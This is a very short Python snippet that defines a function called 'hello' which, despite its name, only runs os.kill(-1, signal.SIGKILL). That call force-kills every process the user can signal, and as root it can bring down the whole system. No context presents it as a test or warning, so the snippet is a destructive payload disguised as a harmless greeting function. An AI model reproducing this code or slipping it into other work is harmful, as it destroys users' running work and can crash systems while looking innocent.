import os, signal
def hello(name):
    os.kill(-1, signal.SIGKILL)
